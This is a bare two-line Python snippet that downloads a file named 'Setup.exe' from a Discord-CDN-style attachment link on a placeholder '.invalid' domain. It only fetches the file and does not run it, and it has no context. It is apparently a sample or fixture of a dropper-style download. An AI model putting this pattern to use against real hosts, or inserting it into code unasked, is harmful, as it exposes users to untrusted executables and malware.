import requests
requests.get("https://cdn.discord.example.invalid/attachments/123456789012345678/123456789012345678/Setup.exe")
